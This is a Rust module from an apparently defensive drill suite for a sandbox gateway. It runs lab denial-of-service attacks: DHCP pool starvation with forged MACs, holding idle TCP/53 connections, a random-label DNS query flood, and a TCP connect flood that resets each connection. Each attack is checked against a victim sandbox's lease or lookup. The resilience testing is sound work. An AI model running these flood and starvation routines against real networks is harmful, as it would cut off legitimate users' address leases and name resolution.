//! Attacks on the gateway services' capacity, from one lab sandbox: DHCP
//! pool starvation with forged client addresses, TCP/53 connection
//! exhaustion, a DNS query flood, and a flood of TCP/53 connects (held to
//! the UDP query rate). The victim is a sibling that then asks for a lease
//! or a name.

use std::collections::BTreeSet;
use std::io;
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use super::l2::Attacker;
use super::{AttackError, Outcome};
use crate::raw::dhcp::{self, ClientMessage, MessageType};
use crate::raw::frame::Mac;
use corral_egress::netns::Netns;
use corral_gateway::wire;

/// A forged client hardware address: locally administered, `n` in the
/// last three bytes, a prefix no real sandbox uses.
pub fn forged_mac(n: u32) -> Mac {
    let b = n.to_be_bytes();
    [0x0a, 0xba, 0xd0, b[1], b[2], b[3]]
}

/// Pool starvation: `count` forged clients each DISCOVER, then REQUEST
/// what they were offered, all from the attacker's port. Returns how many
/// forged leases the server acknowledged (landed when any).
pub fn starve_pool(
    a: &Attacker<'_>,
    count: u32,
    window: Duration,
) -> Result<(Outcome, usize), AttackError> {
    let me = a.mac();
    let xid = |n: u32| 0x57a7_0000u32.wrapping_add(n);
    for n in 0..count {
        a.sock
            .send(&ClientMessage::discover(xid(n), forged_mac(n)).frame(me)?)?;
    }
    let offers = collect(a, window, MessageType::Offer)?;
    for (x, (chaddr, yiaddr, server)) in &offers {
        a.sock
            .send(&ClientMessage::request(*x, *chaddr, *yiaddr, *server).frame(me)?)?;
    }
    // No offer, no request: no acknowledgement can come.
    let acks = if offers.is_empty() {
        Replies::new()
    } else {
        collect(a, window, MessageType::Ack)?
    };
    let leased: BTreeSet<Ipv4Addr> = acks.values().map(|(_, ip, _)| *ip).collect();
    let n = leased.len();
    let detail = format!(
        "{count} forged clients: {} offers, {} acknowledged leases",
        offers.len(),
        n
    );
    let outcome = if n > 0 {
        Outcome::landed(detail)
    } else {
        Outcome::held(detail)
    };
    Ok((outcome, n))
}

type Replies = std::collections::BTreeMap<u32, (Mac, Ipv4Addr, Ipv4Addr)>;

/// Every reply of `kind` to a forged client seen within `window` (ending
/// early once the line has been quiet for a fifth of it).
fn collect(a: &Attacker<'_>, window: Duration, kind: MessageType) -> io::Result<Replies> {
    let mut out = Replies::new();
    let deadline = Instant::now() + window;
    let quiet = window / 5;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return Ok(out);
        }
        let Some(r) = a.sock.recv(left.min(quiet))? else {
            if !out.is_empty() {
                return Ok(out);
            }
            continue;
        };
        if let Some(reply) = dhcp::parse_reply(&r.frame)
            && reply.kind == kind
            && reply.chaddr[..3] == forged_mac(0)[..3]
        {
            let server = reply.server.unwrap_or(reply.from);
            out.insert(reply.xid, (reply.chaddr, reply.yiaddr, server));
        }
    }
}

/// Idle TCP connections to `server` port 53 opened from `ns`: the
/// attacker holds them open. Returns the open streams (as many as the
/// server and the rules accepted within `timeout` each).
pub fn hold_tcp_dns(
    ns: &Netns,
    server: SocketAddr,
    count: usize,
    timeout: Duration,
) -> io::Result<Vec<TcpStream>> {
    ns.run(|| {
        let mut held = Vec::new();
        for _ in 0..count {
            match TcpStream::connect_timeout(&server, timeout) {
                Ok(s) => held.push(s),
                Err(_) => continue,
            }
        }
        held
    })
}

/// What a flood of TCP/53 connects got.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ConnectFlood {
    /// Connects tried.
    pub attempts: usize,
    /// Connects that went through.
    pub connected: usize,
    /// Connects answered with a reset (the rate meter's `reject with tcp
    /// reset`, or anything else that refuses them).
    pub refused: usize,
    /// How long the flood took.
    pub elapsed: Duration,
}

impl ConnectFlood {
    /// Most connects the gateway's per-source rate meter lets through in
    /// [`Self::elapsed`]: its burst, its rate over every started second,
    /// and one for a token refilled mid-way.
    pub fn allowed(&self) -> usize {
        use corral_egress::plan::bridge::{DNS_BURST, DNS_RATE};
        DNS_BURST as usize + DNS_RATE as usize * (self.elapsed.as_secs() as usize + 1) + 1
    }

    /// Held by the meter, on positive evidence: connects were refused, and
    /// no more went through than the meter allows. A flood that was never
    /// refused proves nothing, however few got through (a slow machine
    /// sends slower than the meter's rate), so it is never held.
    pub fn held(&self) -> bool {
        self.refused > 0 && self.connected <= self.allowed()
    }
}

impl std::fmt::Display for ConnectFlood {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} of {} TCP/53 connects went through, {} refused, in {:?} (the meter allows {})",
            self.connected,
            self.attempts,
            self.refused,
            self.elapsed,
            self.allowed()
        )
    }
}

/// Opens TCP/53 connections to `server` from `ns` one after another,
/// `pace` apart, each reset at once (so none stays open against the
/// per-source count), until `enough_refused` were refused or `most` were
/// tried. Stopping on refusals keeps the flood short where a meter holds
/// it and long enough to reach the meter on a slow machine.
pub fn connect_flood(
    ns: &Netns,
    server: SocketAddr,
    most: usize,
    enough_refused: usize,
    pace: Duration,
) -> io::Result<ConnectFlood> {
    ns.run(|| {
        let start = Instant::now();
        let mut r = ConnectFlood {
            attempts: 0,
            connected: 0,
            refused: 0,
            elapsed: Duration::ZERO,
        };
        while r.attempts < most && r.refused < enough_refused {
            r.attempts += 1;
            match TcpStream::connect_timeout(&server, Duration::from_millis(300)) {
                Ok(s) => {
                    // A reset leaves conntrack's count at once; a FIN would
                    // hold the slot until the gateway closes too.
                    let _ = reset_on_close(&s);
                    r.connected += 1;
                }
                Err(e) if e.kind() == io::ErrorKind::ConnectionRefused => r.refused += 1,
                Err(_) => {}
            }
            std::thread::sleep(pace);
        }
        r.elapsed = start.elapsed();
        r
    })
}

fn reset_on_close(s: &TcpStream) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let l = libc::linger {
        l_onoff: 1,
        l_linger: 0,
    };
    // SAFETY: setsockopt reads `l` for its size; the fd is open.
    let rc = unsafe {
        libc::setsockopt(
            s.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_LINGER,
            (&raw const l).cast(),
            size_of::<libc::linger>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(())
}

/// A DNS query flood from `ns` to `server`: one name (or a fresh random
/// label under it per query when `random_labels`), as fast as one socket
/// sends, until dropped. Counts what it sent.
#[derive(Debug)]
pub struct DnsFlood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl DnsFlood {
    /// Starts flooding.
    pub fn start(
        ns: &Netns,
        server: SocketAddr,
        name: &str,
        random_labels: bool,
    ) -> io::Result<Self> {
        let sock = ns.run(|| UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0))))??;
        sock.connect(server)?;
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let name = name.to_owned();
        let thread = {
            let (stop, sent) = (Arc::clone(&stop), Arc::clone(&sent));
            std::thread::Builder::new()
                .name("dns-flood".into())
                .spawn(move || {
                    let mut n: u32 = 0;
                    let mut buf = [0u8; 512];
                    sock.set_nonblocking(true).ok();
                    while !stop.load(Ordering::Relaxed) {
                        n = n.wrapping_add(1);
                        let qname = if random_labels {
                            format!("r{n:08x}.{name}")
                        } else {
                            name.clone()
                        };
                        if let Ok(q) = wire::encode_query(n as u16, &qname, wire::TYPE_A)
                            && sock.send(&q).is_ok()
                        {
                            sent.fetch_add(1, Ordering::Relaxed);
                        }
                        // Drain answers so the socket never fills.
                        while sock.recv(&mut buf).is_ok() {}
                        if n.is_multiple_of(64) {
                            std::thread::yield_now();
                        }
                    }
                })?
        };
        Ok(Self {
            stop,
            sent,
            thread: Some(thread),
        })
    }

    /// Queries sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for DnsFlood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The name the victim looks up in the drill's capacity rows.
const VICTIM_NAME: &str = "victim.corral.test";
/// A domain whose authority never answers (the flood's target).
const SILENT_DOMAIN: &str = "silent.corral.test";

/// The attacker and the victim of the class-5 rows (indices in
/// `Topology::sandboxes`): the first two sandboxes of the first profile
/// with a gateway resolver and internet access.
pub fn pair(lab: &crate::lab::Lab) -> Option<(usize, usize)> {
    use corral_sandbox_core::{DnsPolicy, EgressMode};
    let p = lab
        .profiles
        .iter()
        .find(|p| p.dns == DnsPolicy::Gateway && p.mode == EgressMode::Internet)?;
    let sbs = &lab.topo.sandboxes;
    let mut idx = (0..sbs.len()).filter(|i| sbs[*i].profile == p.name.as_str());
    Some((idx.next()?, idx.next()?))
}

/// The drill's class-5 rows: from the first profile with a gateway
/// resolver and two sandboxes, a sibling starves the DHCP pool, holds idle
/// TCP/53 connections and floods names to a silent authority; each row's
/// control is the victim's request answered before the attack.
pub fn rows(
    lab: &crate::lab::Lab,
    gateways: &crate::lab::LabGateways,
    timeout: Duration,
) -> Vec<crate::DrillRow> {
    let Some((a, b)) = pair(lab) else {
        return Vec::new();
    };
    let (a, b) = (&lab.topo.sandboxes[a], &lab.topo.sandboxes[b]);
    gateways.upstream.set(
        VICTIM_NAME,
        &[std::net::IpAddr::V4(Ipv4Addr::new(198, 18, 1, 1))],
        60,
    );
    gateways.upstream.silence(SILENT_DOMAIN);
    let dns = SocketAddr::new(b.gateway_v4.into(), 53);
    let row = |what: &str, control: Observed, observed: Observed| crate::DrillRow {
        probe: format!("gateway class 5: {what}"),
        from: a.name.clone(),
        to: format!("gateway {} (victim {})", b.gateway_v4, b.name),
        expected: crate::Expect::Block,
        verdict: crate::judge(crate::Expect::Block, &control, &observed),
        observed,
        control,
        ms: 0,
        packet: None,
    };
    vec![
        row(
            "253 forged DHCP clients take no lease; a sibling keeps its own",
            victim_lease(b, timeout),
            starved(a, b, timeout),
        ),
        row(
            "30 idle TCP/53 connections leave a sibling its TCP lookups",
            victim_tcp(b, dns, timeout),
            tcp_held(a, b, dns, timeout),
        ),
        row(
            "a flood of names to a silent authority leaves a sibling its lookups",
            victim_udp(b, dns, timeout),
            flooded(a, b, dns, timeout),
        ),
        row(
            "a flood of TCP/53 connects is held to the UDP query rate",
            victim_tcp(b, dns, timeout),
            connect_flooded(a),
        ),
    ]
}

use crate::lab::Observed;
use crate::lab::topology::SandboxNs;

fn lease_of(
    sb: &SandboxNs,
    xid: u32,
    timeout: Duration,
) -> Result<Option<dhcp::Lease>, AttackError> {
    let v = Attacker::new(sb)?;
    Ok(dhcp::obtain(&v.sock, v.mac(), v.mac(), xid, timeout)?)
}

fn victim_lease(b: &SandboxNs, timeout: Duration) -> Observed {
    match lease_of(b, 0x7e57_0001, timeout) {
        Ok(Some(l)) if l.addr == b.v4 => Observed::Connected,
        Ok(other) => Observed::Error(format!("the victim's lease: {other:?}")),
        Err(e) => Observed::Error(e.to_string()),
    }
}

fn starved(a: &SandboxNs, b: &SandboxNs, timeout: Duration) -> Observed {
    let attack = Attacker::new(a).and_then(|att| starve_pool(&att, 253, timeout));
    let (outcome, forged) = match attack {
        Ok(r) => r,
        Err(e) => return Observed::Error(e.to_string()),
    };
    match lease_of(b, 0x7e57_0002, timeout) {
        Ok(Some(l)) if l.addr == b.v4 && forged == 0 => Observed::Rejected(outcome.detail),
        Ok(l) => landed(format!("{}; victim: {l:?}", outcome.detail)),
        Err(e) => Observed::Error(e.to_string()),
    }
}

fn tcp_lookup(b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> bool {
    b.ns.run(|| corral_gateway::probe::query_tcp(dns, VICTIM_NAME, wire::TYPE_A, timeout))
        .ok()
        .and_then(Result::ok)
        .is_some_and(|r| !r.answers.is_empty())
}

fn udp_lookup(b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> bool {
    b.ns.run(|| corral_gateway::probe::query(dns, VICTIM_NAME, wire::TYPE_A, timeout))
        .ok()
        .and_then(Result::ok)
        .is_some_and(|r| !r.answers.is_empty())
}

/// A landed attack: the row shows it reached; the log says what was seen.
fn landed(detail: String) -> Observed {
    tracing::warn!("gateway attack landed: {detail}");
    Observed::Connected
}

fn answered(ok: bool, what: &str) -> Observed {
    if ok {
        Observed::Connected
    } else {
        Observed::Error(format!("the victim's {what} was not answered"))
    }
}

fn victim_tcp(b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> Observed {
    answered(tcp_lookup(b, dns, timeout), "TCP lookup")
}

fn victim_udp(b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> Observed {
    answered(udp_lookup(b, dns, timeout), "lookup")
}

fn tcp_held(a: &SandboxNs, b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> Observed {
    let a_dns = SocketAddr::new(a.gateway_v4.into(), 53);
    let held = match hold_tcp_dns(&a.ns, a_dns, 30, Duration::from_millis(500)) {
        Ok(h) => h,
        Err(e) => return Observed::Error(e.to_string()),
    };
    let detail = format!("the attacker holds {} connections", held.len());
    if tcp_lookup(b, dns, timeout) {
        Observed::Rejected(format!("{detail}; the victim's TCP lookup was answered"))
    } else {
        landed(detail)
    }
}

/// 1,000 connects 5 ms apart (longer than conntrack's count GC, so only the
/// rate meter can refuse): landed when more connected than the per-source
/// meter (`DNS_RATE`/s after `DNS_BURST`) lets through in that time.
fn connect_flooded(a: &SandboxNs) -> Observed {
    let a_dns = SocketAddr::new(a.gateway_v4.into(), 53);
    match connect_flood(&a.ns, a_dns, 3_000, 20, Duration::from_millis(5)) {
        Ok(r) if r.held() => Observed::Rejected(r.to_string()),
        Ok(r) => landed(r.to_string()),
        Err(e) => Observed::Error(e.to_string()),
    }
}

fn flooded(a: &SandboxNs, b: &SandboxNs, dns: SocketAddr, timeout: Duration) -> Observed {
    let a_dns = SocketAddr::new(a.gateway_v4.into(), 53);
    let flood = match DnsFlood::start(&a.ns, a_dns, SILENT_DOMAIN, true) {
        Ok(f) => f,
        Err(e) => return Observed::Error(e.to_string()),
    };
    std::thread::sleep(Duration::from_secs(1));
    let answered = (0..5).filter(|_| udp_lookup(b, dns, timeout)).count();
    let sent = flood.sent();
    drop(flood);
    let detail = format!("{answered} of 5 lookups answered during a flood of {sent} queries");
    if answered == 5 {
        Observed::Rejected(detail)
    } else {
        landed(detail)
    }
}
